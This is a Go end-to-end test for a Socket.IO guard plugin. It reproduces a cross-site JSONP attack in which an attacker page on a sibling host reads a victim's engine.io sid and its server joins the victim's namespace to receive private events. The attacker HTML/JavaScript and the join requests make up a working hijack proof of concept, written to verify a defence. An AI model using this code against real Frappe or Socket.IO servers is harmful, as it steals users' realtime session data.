package e2e

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/sysmayal/socketioguard/e2e/stack"
)

// Host names of the attack: the site and a sibling host on the same site
// (example.test), which Chromium maps to loopback.
const (
	appHost  = "app.example.test"
	evilHost = "evil.example.test"
)

// TestCrossSiteJSONPCannotJoinTheVictimsNamespace is the Security section's
// attack, end to end in headless Chromium against the Frappe-like realtime
// server through Traefik and the guard with the Frappe recipe
// (setMissingOrigin): the victim has a session cookie on app.example.test; a
// page on evil.example.test includes the polling handshake as a <script>
// (JSONP, whose answer the page can read) and as an <img>; if the page reads
// the sid, its server (here: the test) joins the victim's namespace with it
// and waits for an event published to the victim's user room.
//
// Over https Chromium marks the page's requests Sec-Fetch-Site: same-site and
// the guard does not vouch for them with an Origin; over plain http to a real
// host name it sends no Sec-Fetch-* at all, and refusing JSONP is what closes
// the hole. The control — bench's own nginx template, which forces Origin,
// with no guard — shows that the attack is real and that this test sees it.
func TestCrossSiteJSONPCannotJoinTheVictimsNamespace(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	if _, err := os.Stat(chromiumPath()); err != nil {
		t.Fatalf("no Chromium at %s: run scripts/setup-e2e.sh --browser (make e2e does)", chromiumPath())
	}
	// The realtime server calls the web app directly (Frappe's server_ip):
	// it cannot resolve the *.example.test names the browser uses.
	web, err := e.st.StartWebapp("webapp", stack.WebappOptions{
		StaticDir: filepath.Join(e.st.Tools.Repo, "demo", "page"), Site: site, Redis: e.redis().URL(),
	})
	e.must(err)
	rt := e.realtimeWith("realtime", stack.RealtimeOptions{ServerIP: stack.Addr(web.Port)})
	evil := httptest.NewServer(http.HandlerFunc(serveAttackerPage))
	t.Cleanup(evil.Close)
	certFile, keyFile := writeCertificate(t, e.st.Dir, appHost, evilHost)

	// Four entrypoints: http/https × the Frappe recipe as documented and the
	// same with allowJSONP; one more without the guard for the control.
	variants := []struct {
		entryPoint string
		tls        bool
		allowJSONP bool
	}{
		{"web", false, false}, {"websecure", true, false},
		{"webjsonp", false, true}, {"websecurejsonp", true, true},
	}
	var dyn strings.Builder
	fmt.Fprintf(&dyn, `
tls:
  certificates:
    - {certFile: %q, keyFile: %q}
http:
  middlewares:%s
    sio-guard:
      plugin:
        socketioguard: {setMissingOrigin: true, eioVersions: "4", inspectPath: /socket.io/.guard, logLevel: info}
    sio-guard-jsonp:
      plugin:
        socketioguard: {setMissingOrigin: true, eioVersions: "4", inspectPath: /socket.io/.guard, logLevel: info, allowJSONP: true}
  services:
    realtime: {loadBalancer: {servers: [{url: %s}]}}
    webapp: {loadBalancer: {servers: [{url: %s}]}}
    evil: {loadBalancer: {servers: [{url: %s}]}}
  routers:`, certFile, keyFile, frappeSiteMiddleware, realtimeURL(rt), web.URL(), evil.URL)
	var routers []string
	route := func(name, entryPoint, rule, middlewares, service string, tls bool) {
		fmt.Fprintf(&dyn, "\n    %s: {rule: %q, entryPoints: [%s], middlewares: [%s], service: %s", name, rule, entryPoint, middlewares, service)
		if tls {
			dyn.WriteString(", tls: {}")
		}
		dyn.WriteString("}")
		routers = append(routers, name+"@file")
	}
	entryPoints := []string{"plain"}
	for _, v := range variants {
		guard := "frappe-site, sio-guard"
		if v.allowJSONP {
			guard = "frappe-site, sio-guard-jsonp"
		}
		route(v.entryPoint+"-sio", v.entryPoint, "Host(`"+appHost+"`) && PathPrefix(`/socket.io`)", guard, "realtime", v.tls)
		route(v.entryPoint+"-web", v.entryPoint, "Host(`"+appHost+"`)", "", "webapp", v.tls)
		route(v.entryPoint+"-evil", v.entryPoint, "Host(`"+evilHost+"`)", "", "evil", v.tls)
		entryPoints = append(entryPoints, v.entryPoint)
	}
	route("plain-sio", "plain", "Host(`"+appHost+"`) && PathPrefix(`/socket.io`)", "frappe-site", "realtime", false)
	route("plain-web", "plain", "Host(`"+appHost+"`)", "", "webapp", false)
	route("plain-evil", "plain", "Host(`"+evilHost+"`)", "", "evil", false)
	tr, err := e.st.StartTraefik(stack.TraefikOptions{EntryPoints: entryPoints, Dynamic: dyn.String(), Routers: routers})
	e.must(err)
	// The control: bench's generated nginx (frappe/bench nginx template),
	// which sets Origin on every /socket.io request, in front of a route
	// without the guard.
	bench := e.nginx("bench-nginx", fmt.Sprintf(`
  server {
    listen 127.0.0.1:{{port}};
    location /socket.io {
      proxy_http_version 1.1;
      proxy_set_header Upgrade $http_upgrade;
      proxy_set_header Connection "upgrade";
      proxy_set_header Origin $scheme://$http_host;
      proxy_set_header Host $http_host;
      proxy_pass %[1]s;
    }
    location / {
      proxy_set_header Host $http_host;
      proxy_pass %[1]s;
    }
  }`, tr.URL("plain")))

	type target struct {
		name      string
		base      string // scheme://app.example.test:port
		evilBase  string
		wantLeak  bool
		wantJoins bool
		entry     string // the guard's entrypoint ("" for the control)
	}
	base := func(scheme, host string, port int) string { return fmt.Sprintf("%s://%s:%d", scheme, host, port) }
	var targets []target
	for _, v := range variants {
		scheme := "http"
		if v.tls {
			scheme = "https"
		}
		p := tr.Ports[v.entryPoint]
		name := scheme + ", the Frappe recipe"
		if v.allowJSONP {
			name += " with allowJSONP"
		}
		targets = append(targets, target{name: name, base: base(scheme, appHost, p), evilBase: base(scheme, evilHost, p), wantLeak: v.allowJSONP, entry: v.entryPoint})
	}
	targets = append(targets, target{name: "control: bench's nginx template (Origin forced), no guard",
		base: base("http", appHost, bench.Port), evilBase: base("http", evilHost, bench.Port), wantLeak: true, wantJoins: true})

	// The victim's own pages first (over http and https): they connect, end
	// on websocket and receive their message; then the attacker's pages.
	args := []string{filepath.Join(e.st.Tools.NodeDir, "attack.js"), "--timeout", "20000",
		"--victim", targets[0].base + "/", "--victim", targets[1].base + "/"}
	for _, tg := range targets {
		handshakeURL := tg.base + "/socket.io/?EIO=4&transport=polling"
		args = append(args, "--attack", tg.evilBase+"/?"+url.Values{"target": {handshakeURL + "&j=0"}, "plain": {handshakeURL + "&t=img"}}.Encode())
	}
	p, err := e.st.Run(stack.Command{Name: "chromium attack", Program: e.st.Tools.Node, Args: args, Env: []string{"SOCKETIOGUARD_CHROMIUM=" + chromiumPath()}})
	e.must(err)
	select {
	case <-waitChan(p):
	case <-time.After(120 * time.Second):
		p.Stop()
		t.Fatalf("attack.js did not finish within 120 s:\n%s", p.Logs())
	}
	var victims, attacks []attackLine
	for _, line := range strings.Split(p.Logs(), "\n") {
		var l attackLine
		if json.Unmarshal([]byte(strings.TrimPrefix(line, "[chromium attack] ")), &l) != nil {
			continue
		}
		switch l.Type {
		case "victim":
			victims = append(victims, l)
		case "attack":
			attacks = append(attacks, l)
		}
	}
	if len(victims) != 2 || len(attacks) != len(targets) {
		t.Fatalf("attack.js reported %d victim and %d attack lines:\n%s", len(victims), len(attacks), p.Logs())
	}
	for _, v := range victims {
		if !v.OK || v.Transport != "websocket" {
			t.Errorf("the victim's own page %s: ok=%v transport=%q error=%q status=%q", v.URL, v.OK, v.Transport, v.Error, v.Status)
		}
	}

	for i, tg := range targets {
		a := attacks[i]
		t.Run(tg.name, func(t *testing.T) {
			sid := leakedSID(a.Leaked)
			t.Logf("attacker page %s: leaked=%q blocked=%v error=%q", a.URL, a.Leaked, a.Blocked, a.Error)
			if (sid != "") != tg.wantLeak {
				t.Fatalf("the attacker's page read a sid: %v, want %v (page result %+v)", sid != "", tg.wantLeak, a)
			}
			if sid == "" {
				return
			}
			joined, received := attackerJoins(t, tg.base, sid, web)
			if joined != tg.wantJoins || received != tg.wantJoins {
				t.Errorf("the attacker's server joined the victim's namespace: %v, received the victim's event: %v; want %v", joined, received, tg.wantJoins)
			}
		})
	}

	// What the guard saw: on https the browser marked the attacker's <img>
	// same-site and the guard withheld the Origin; on http it could not tell.
	overHTTPS, overHTTP := inspectCounters(t, targets[1].base), inspectCounters(t, targets[0].base)
	if overHTTPS.Withheld["origin:sec-fetch-site"] == 0 || overHTTPS.Rejections["jsonp-refused"] == 0 {
		t.Errorf("https guard counters: %+v, want an Origin withheld for Sec-Fetch-Site and a JSONP refusal", overHTTPS)
	}
	if overHTTP.Rejections["jsonp-refused"] == 0 || overHTTP.Repairs["origin"] == 0 {
		t.Errorf("http guard counters: %+v, want a JSONP refusal and Origins set (no Sec-Fetch-Site over http)", overHTTP)
	}
	jsonpHTTPS := inspectCounters(t, targets[3].base)
	if jsonpHTTPS.Withheld["origin:jsonp"] == 0 {
		t.Errorf("https allowJSONP guard counters: %+v, want an Origin withheld for JSONP", jsonpHTTPS)
	}
	expectLog(t, tr, "event=origin-not-set", "same-site page")
}

type attackLine struct {
	Type      string `json:"type"`
	URL       string `json:"url"`
	OK        bool   `json:"ok"`
	Transport string `json:"transport"`
	Status    string `json:"status"`
	Leaked    string `json:"leaked"`
	Blocked   bool   `json:"blocked"`
	Error     string `json:"error"`
}

// serveAttackerPage is the page on the sibling host.
func serveAttackerPage(rw http.ResponseWriter, req *http.Request) {
	rw.Header().Set("Content-Type", "text/html; charset=utf-8")
	io.WriteString(rw, `<!doctype html><title>evil</title><script>
window.__result = null;
// engine.io's JSONP answer calls ___eio[j](packet): the handshake, sid included.
window.___eio = [function (packet) { window.__result = { leaked: String(packet) }; }];
const q = new URLSearchParams(location.search);
const blocked = () => setTimeout(() => { if (!window.__result) window.__result = { blocked: true }; }, 200);
const s = document.createElement("script");
s.src = q.get("target");
s.onerror = blocked;
s.onload = blocked;
document.head.appendChild(s);
new Image().src = q.get("plain"); // a plain handshake, as an <img>: its answer cannot be read
</script>`)
}

var sidInHandshake = regexp.MustCompile(`"sid":"([A-Za-z0-9_-]+)"`)

func leakedSID(packet string) string {
	m := sidInHandshake.FindStringSubmatch(strings.ReplaceAll(packet, `\"`, `"`))
	if m == nil {
		return ""
	}
	return m[1]
}

// attackerJoins is the attacker's server: with the leaked sid it sends the
// CONNECT packet for the victim's namespace (as JSONP's form body), reads the
// answer, then waits for an event published to the victim's user room.
func attackerJoins(t *testing.T, base, sid string, web *stack.Webapp) (joined, received bool) {
	t.Helper()
	endpoint := base + "/socket.io/?EIO=4&transport=polling&sid=" + url.QueryEscape(sid)
	post := attackerRequest(t, http.MethodPost, endpoint, "d="+url.QueryEscape("40"+namespace+","))
	t.Logf("CONNECT %s → %s", namespace, post)
	first := attackerRequest(t, http.MethodGet, endpoint, "")
	t.Logf("answer: %s", first)
	joined = strings.Contains(first, `40`+namespace+`,{`)
	if _, err := web.Publish(site, "user:Administrator", "victim_private", map[string]string{"secret": "for the victim only"}); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3 && !received; i++ {
		next := attackerRequest(t, http.MethodGet, endpoint, "")
		received = strings.Contains(next, "for the victim only")
	}
	return joined, received
}

// attackerRequest sends one polling request to app.example.test through the
// route (on loopback) and returns status and body; a long-poll that brings
// nothing is cut after 3 s.
func attackerRequest(t *testing.T, method, endpoint, body string) string {
	t.Helper()
	u, err := url.Parse(endpoint)
	if err != nil {
		t.Fatal(err)
	}
	client := &http.Client{Timeout: 3 * time.Second, Transport: &http.Transport{
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true, ServerName: appHost},
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, network, "127.0.0.1:"+u.Port())
		},
	}}
	req, err := http.NewRequest(method, endpoint, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	resp, err := client.Do(req)
	if err != nil {
		return "no answer: " + err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
	return fmt.Sprintf("%d %s", resp.StatusCode, b)
}

type guardCounters struct {
	Repairs    map[string]int `json:"repairs"`
	Withheld   map[string]int `json:"withheld"`
	Rejections map[string]int `json:"rejections"`
}

func inspectCounters(t *testing.T, base string) guardCounters {
	t.Helper()
	status := attackerRequest(t, http.MethodGet, base+"/socket.io/.guard", "")
	_, body, _ := strings.Cut(status, " ")
	var answer struct {
		Counters guardCounters `json:"counters"`
	}
	if err := json.Unmarshal([]byte(body), &answer); err != nil {
		t.Fatalf("inspection of %s: %s", base, status)
	}
	return answer.Counters
}

// writeCertificate writes a self-signed certificate for the names.
func writeCertificate(t *testing.T, dir string, names ...string) (certFile, keyFile string) {
	t.Helper()
	c, err := stack.NewCertificate(dir, "cert", names, false, nil)
	if err != nil {
		t.Fatal(err)
	}
	return c.CertFile, c.KeyFile
}

func chromiumPath() string {
	if p := os.Getenv("SOCKETIOGUARD_CHROMIUM"); p != "" {
		return p
	}
	return "/usr/bin/chromium"
}
